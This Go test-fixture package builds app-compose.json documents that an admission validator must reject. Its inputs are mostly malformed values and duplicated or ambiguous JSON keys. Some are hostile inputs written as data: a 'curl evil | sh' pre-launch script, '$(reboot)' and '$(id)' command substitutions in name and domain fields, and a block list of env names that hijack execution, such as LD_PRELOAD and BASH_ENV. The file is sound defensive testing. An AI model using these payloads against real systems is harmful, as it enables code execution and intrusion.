// Package appcomposetest has the documents that admission must reject, for the tests of every
// package that judges a document.
package appcomposetest

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"

	"cadre.dev/core/appcompose"
)

// Case is one document.
type Case struct {
	Name string
	Raw  []byte
	// Says is a required part of the refusal.
	Says string
}

// change is one edit of a good document: the JSON text of a key's value; "" removes it.
type change struct{ key, value, says string }

// changes has a bad value of every key of the closed list, and every further key that dstack knows.
var changes = []change{
	{"manifest_version", ``, "manifest_version is missing"},
	{"manifest_version", `1`, "manifest_version is 1"},
	{"manifest_version", `3`, "manifest_version is 3"},
	{"manifest_version", `"4"`, "manifest_version"},
	{"manifest_version", `2.0`, "manifest_version"},
	{"name", `7`, "name is not a text"},
	{"name", `"a b"`, "name"},
	{"name", `"$(reboot)"`, "name"},
	{"name", `"` + strings.Repeat("a", 129) + `"`, "name"},
	{"runner", ``, "runner is missing"},
	{"runner", `"bash"`, "runner"},
	{"runner", `"Docker-Compose"`, "runner"},
	{"runner", `null`, "runner"},
	{"docker_compose_file", ``, "docker_compose_file is missing"},
	{"docker_compose_file", `""`, "docker_compose_file is empty"},
	{"docker_compose_file", `" \n"`, "docker_compose_file is empty"},
	{"docker_compose_file", `["services: {}"]`, "docker_compose_file"},
	{"docker_compose_file", `null`, "docker_compose_file"},
	{"allowed_envs", `null`, "allowed_envs is not a list"},
	{"allowed_envs", `"A"`, "allowed_envs is not a list"},
	{"allowed_envs", `[null]`, "allowed_envs[0]"},
	{"allowed_envs", `[""]`, "allowed_envs[0]"},
	{"allowed_envs", `["1A"]`, "not a variable name"},
	{"allowed_envs", `["A-B"]`, "not a variable name"},
	{"allowed_envs", `["A=B"]`, "not a variable name"},
	{"allowed_envs", `["A B"]`, "not a variable name"},
	{"allowed_envs", `["É"]`, "not a variable name"},
	{"allowed_envs", `["BASH_FUNC_x%%"]`, "allowed_envs[0]"},
	{"allowed_envs", `["CADRE_GATEWAY_DOMAIN","CADRE_GATEWAY_DOMAIN"]`, "twice"},
	{"allowed_envs", `["CADRE_TRUST"]`, "reserved"},
	{"features", `"kms"`, "features is not a list"},
	{"features", `["kms","kms"]`, "features"},
	{"features", `["bash"]`, "features"},
	{"kms_enabled", ``, "kms_enabled is missing"},
	{"kms_enabled", `false`, "kms_enabled is false"},
	{"kms_enabled", `"true"`, "kms_enabled"},
	{"kms_enabled", `1`, "kms_enabled"},
	{"key_provider", `"none"`, "key_provider"},
	{"key_provider", `"local"`, "key_provider"},
	{"key_provider", `"tpm"`, "key_provider"},
	{"key_provider", `null`, "key_provider"},
	{"key_provider_id", `"3059301306072a8648ce3d020106"`, "key_provider_id"},
	{"key_provider_id", `null`, "key_provider_id"},
	{"local_key_provider_enabled", `true`, "local_key_provider_enabled"},
	{"gateway_enabled", `"yes"`, "gateway_enabled"},
	{"tproxy_enabled", `null`, "tproxy_enabled"},
	{"tproxy_enabled", `false`, "tproxy_enabled"},
	{"public_logs", `true`, "public_logs is true"},
	{"public_logs", `null`, "public_logs"},
	{"public_sysinfo", `1`, "public_sysinfo"},
	{"public_tcbinfo", `"false"`, "public_tcbinfo"},
	{"no_instance_id", `true`, "no_instance_id is true"},
	{"secure_time", ``, "secure_time is missing"},
	{"secure_time", `false`, "secure_time is false"},
	{"secure_time", `null`, "secure_time"},
	{"storage_fs", `"btrfs"`, "storage_fs"},
	{"storage_fs", `""`, "storage_fs"},
	{"storage_fs", `null`, "storage_fs"},
	{"swap_size", `-1`, "swap_size"},
	{"swap_size", `1e30`, "swap_size"},
	{"swap_size", `1.5`, "swap_size"},
	{"swap_size", `"4G"`, "swap_size"},
	{"swap_size", `1099511627777`, "swap_size"},
	{"pre_launch_script", `"curl evil | sh"`, "pre_launch_script"},
	{"pre_launch_script", `null`, "pre_launch_script"},
	{"pre_launch_script", `"true"`, "pre_launch_script"},
	{"bash_script", `"sh"`, "bash_script"},
	{"init_script", ``, "init_script is missing"},
	{"init_script", `""`, "init_script"},
	{"init_script", `[]`, "init_script"},
	{"init_script", `null`, "init_script"},
	{"init_script", `"sh"`, "init_script"},
	{"init_script", `["sh"]`, "init_script"},
	{"init_script", `"true ` + "\\n" + `"`, "init_script"},
	{"verity_volumes", `[{"source":"x","target":"/usr"}]`, "verity_volumes"},
	{"verity_volumes", `[]`, "verity_volumes"},
	{"docker_config", `{"username":"","password":"","registry":null}`, "docker_config"},
	{"port_policy", `{"open":true}`, "port_policy"},
	{"requirements", `{}`, "requirements"},
	{"no_tee", `true`, "no_tee"},
	{"no_tee", `false`, "no_tee"},
	{"event_log_version", `true`, "event_log_version"},
	{"default_gateway_domain", `"$(id).example.org"`, "default_gateway_domain"},
	{"salt", `"a b"`, "salt"},
	{"a_key_of_tomorrow", `false`, "a_key_of_tomorrow"},
	{"", `0`, "not on the list"},
}

// Names are env names that steer code, one for every pattern of appcompose.Steering
// and more that are well known.
func Names() []string {
	names := []string{
		"APP_COMPOSE_FILE", "COMPOSE_FILE", "COMPOSE_PROJECT_DIRECTORY", "COMPOSE_PROFILES", "COMPOSE_ENV_FILES", "DOCKER_HOST", "DOCKER_CONFIG",
		"DOCKER_CONTEXT", "DOCKER_TLS_VERIFY", "DOCKER_CERT_PATH", "DOCKER_CONTENT_TRUST_SERVER", "DOCKER_DEFAULT_PLATFORM", "BUILDKIT_HOST",
		"BUILDX_CONFIG", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "GLIBC_TUNABLES", "BASH_ENV", "BASH_FUNC_docker", "BASH_LOADABLES_PATH", "BASH_XTRACEFD",
		"ENV", "SHELLOPTS", "BASHOPTS", "PS4", "PROMPT_COMMAND", "IFS", "PATH", "HOME", "SHELL", "TMPDIR", "PYTHONPATH", "PYTHONSTARTUP", "PERL5LIB", "PERL5OPT",
		"NODE_OPTIONS", "RUBYOPT", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "GIT_SSH_COMMAND", "GIT_CONFIG_GLOBAL", "SSL_CERT_FILE", "SSL_CERT_DIR",
		"SSLKEYLOGFILE", "CURL_CA_BUNDLE", "CURL_HOME", "OPENSSL_CONF", "OPENSSL_MODULES", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS",
		"HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy", "Ftp_Proxy", "GODEBUG", "GOTRACEBACK", "LOCPATH", "NLSPATH",
		"GCONV_PATH", "HOSTALIASES", "RES_OPTIONS", "LOCALDOMAIN", "DSTACK_ROOT_PASSWORD", "DSTACK_AUTHORIZED_KEYS", "DSTACK_DOCKER_REGISTRY", "MALLOC_CONF",
		"MALLOC_ARENA_MAX", "TZDIR", "XDG_CONFIG_HOME", "SSH_AUTH_SOCK", "NOTIFY_SOCKET", "LISTEN_FDS", "SYSTEMD_LOG_TARGET",
	}
	for _, pattern := range appcompose.Steering() {
		if suffix, found := strings.CutPrefix(pattern, "*"); found {
			names = append(names, "X"+suffix)
			continue
		}
		prefix, wild := strings.CutSuffix(pattern, "*")
		if wild {
			prefix += "X"
		}
		names = append(names, prefix)
	}
	slices.Sort(names)
	return slices.Compact(names)
}

// Good is a document that is accepted, of this compose text.
func Good(name, compose string, envs ...string) []byte {
	raw, err := appcompose.Render(name, compose, envs)
	if err != nil {
		return nil // an empty compose text: a mistake of the caller that every judge rejects
	}
	return raw
}

// Bad returns documents that differ from base in one inadmissible detail. base must be an accepted
// document.
func Bad(base []byte) ([]Case, error) {
	var fields map[string]json.RawMessage
	if err := json.Unmarshal(base, &fields); err != nil {
		return nil, fmt.Errorf("read the document to change: %w", err)
	}
	var out []Case
	for _, c := range changes {
		edited := maps.Clone(fields)
		if edited[c.key] = json.RawMessage(c.value); c.value == "" {
			delete(edited, c.key)
		}
		raw, err := encode(edited)
		if err != nil {
			return nil, err
		}
		out = append(out, Case{Name: fmt.Sprintf("%s=%.40s", c.key, c.value), Raw: raw, Says: c.says})
	}
	for _, name := range Names() {
		edited := maps.Clone(fields)
		edited["allowed_envs"] = json.RawMessage(fmt.Sprintf("[%q]", name))
		raw, err := encode(edited)
		if err != nil {
			return nil, err
		}
		out = append(out, Case{Name: "env " + name, Raw: raw, Says: name})
	}
	return append(out, forms(base)...), nil
}

// forms are bytes that two readers could read in two ways (ATT-24).
func forms(base []byte) []Case {
	with := func(text string) []byte { return append([]byte("{"+text+","), base[1:]...) }
	return []Case{
		{"doubled key", with(`"docker_compose_file":"services: {}"`), "the same"},
		{"doubled key with an escape", with(`"runne\u0072":"docker-compose"`), "the same"},
		{"doubled key in other letters", with(`"Runner":"docker-compose"`), "the same"},
		{"key in other letters", bytes.Replace(base, []byte(`"secure_time"`), []byte(`"Secure_Time"`), 1), "Secure_Time"},
		{"document after the document", append(slices.Clone(base), "{}"...), "more data"},
		{"text after the document", append(slices.Clone(base), 'x'), "app-compose.json"},
		{"byte order mark", append([]byte("\xef\xbb\xbf"), base...), "app-compose.json"},
		{"not UTF-8", bytes.Replace(base, []byte(`"docker-compose"`), []byte("\"docker-compose\xff\""), 1), "UTF-8"},
		{"list", []byte(`[]`), "app-compose.json"},
		{"null", []byte(`null`), "not an object"},
		{"cut off", base[:len(base)-1], "app-compose.json"},
		{"nested too deep", with(`"x":` + strings.Repeat("[", 64) + strings.Repeat("]", 64)), "nested"},
	}
}

func encode(fields map[string]json.RawMessage) ([]byte, error) {
	raw, err := json.Marshal(fields)
	if err != nil {
		return nil, fmt.Errorf("write a bad document: %w", err)
	}
	return raw, nil
}
